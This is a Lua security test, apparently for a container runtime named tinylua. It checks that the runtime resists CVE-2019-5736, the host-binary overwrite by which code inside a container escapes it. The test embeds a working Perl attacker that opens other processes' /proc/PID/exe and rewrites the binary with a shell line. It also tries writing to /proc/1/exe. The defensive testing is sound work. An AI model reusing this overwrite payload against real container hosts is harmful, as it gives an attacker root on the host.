-- CVE-2019-5736: root in a container makes tinylua run itself while it enters the container, opens the binary through
-- /proc/PID/exe, and writes to it when no process runs it any more.
local attack = require "attack"
local check = require "check"

local OPEN = tonumber("755", 8)

-- A copy of the program that root may write: the one under test may be on a read-only file system.
local before = check.digest "/proc/self/exe"
local function run(copy, ...)
  local words = { ... }
  local from, into = tiny.pipe()
  local child <close> = tiny.fork(function()
    for number = 1, 2 do tiny.dup2(into, number) end
    tiny.exec { copy, "--root", check.root, table.unpack(words) }
  end)
  into:close()
  local text = ""
  for bytes in function() return from:read() end do text = text .. bytes end
  return child:wait(), text
end

-- Opens the program of every tinylua process, and writes to it as soon as possible.
local ATTACKER = ([[
use Errno; use Time::HiRes "usleep"; $| = 1; my ($opened, %%why) = 0;
my $end = time + 600; # until /stop is there
while (time < $end && !-e "/stop") {
  for my $exe (glob "/proc/[0-9]*/exe") {
    next if $exe eq "/proc/$$/exe";
    open(my $f, "<", $exe) or next;
    next unless (stat $f)[7] == %d;
    $opened++;
    for (1 .. 2000) {
      if (open(my $w, "+<", "/proc/self/fd/" . fileno $f)) { print $w "#!/bin/sh\n"; close $w; $why{written}++; last }
      if (!$!{ETXTBSY}) { $why{$!{EROFS} ? "EROFS" : $!{EPERM} ? "EPERM" : $! + 0}++; last }
      usleep 500;
    }
  }
}
print "opened $opened ", join(" ", sort keys %%why), "\n";]]):format(tiny.stat("/proc/self/exe", { follow = true }).size)
tiny.write_file("/tmp/attack.pl", ATTACKER)
tiny.write_file("/tmp/script", "#!/proc/self/exe\n", { mode = OPEN })

-- Enters the container with a copy of the program until the attacker has had its chance; returns what it achieved.
local function attacked(copy, flag, value)
  check.copy_program(copy)
  check.succeeds("run", "-d", "--name", "c", "-v", "/tmp/attack.pl:/attack.pl:ro", "-v", "/tmp/script:/script:ro", "perl", "/attack.pl")
  for _ = 1, attack.slow and 5 or 15 do
    -- It runs itself there, by its name and as the interpreter of a script, and fails because no command is given.
    for _, words in ipairs { { "/script" }, { "/proc/self/exe" } } do run(copy, flag, value, "exec", "c", table.unpack(words)) end
    if check.digest(copy) ~= before then break end
  end
  check.run { "exec", "c", "touch", "/stop" } -- killed; the attacker sees this soon and ends the container
  check.succeeds("wait", "c")
  local opened, why = check.succeeds("logs", "c"):match("opened (%d+) (.-)\n")
  print(("%s was opened %s times: %s"):format(copy, opened, why))
  assert(tonumber(opened) > 0, "the attack did not get as far as it can")
  check.succeeds("rm", "c")
  return check.digest(copy) ~= before, why
end

local overwritten, why = attacked("/tmp/tinylua", "--lua-path", "/tmp")
assert(not overwritten, "the program was overwritten")
check.equal(why, "EROFS")

-- A tinylua PID 1 next to the program.
check.copy_program "/tmp/tinylua"
local _, text = run("/tmp/tinylua", "run", "--rm", "--init", "sh", "-c", "exec 2>/dev/null; for i in 1 2 3; do echo x > /proc/1/exe; done; head -c4 /proc/1/exe | wc -c")
check.equal(text, "0\n")
assert(check.digest "/tmp/tinylua" == before, "the program was overwritten")

-- If mounts are not permitted, the copy is mounted in new namespaces; if these are not permitted either, it is a sealed
-- copy in memory.
tiny.write_file("/tmp/seal.lua", "print(tiny.readlink('/proc/self/exe'), (tiny.try(tiny.open, '/proc/self/exe', { write = true })))")
check.inside({}, function()
  tiny.set_caps { bounding = {}, permitted = {}, effective = {}, inheritable = {}, ambient = {} }
  local _, where = run("/tmp/tinylua", "run", "/tmp/seal.lua")
  check.equal(where, "/\tnil\n")
end)
-- No user namespace can be created in a root that is not that of the mount namespace (user_namespaces(7)).
check.inside({ mount = true }, function()
  tiny.mkdir("/tmp/jail/proc", { parents = true })
  tiny.mkdir("/tmp/jail/tmp")
  tiny.mount_proc("/tmp/jail/proc")
  tiny.mount_bind("/tmp", "/tmp/jail/tmp", { recursive = false })
  tiny.chroot("/tmp/jail")
  tiny.set_caps { bounding = {}, permitted = {}, effective = {}, inheritable = {}, ambient = {} }
  local _, where = run("/tmp/tinylua", "run", "/tmp/seal.lua")
  check.equal(where, "/memfd:tinylua (deleted)\tnil\n")
end)
check.no_container()
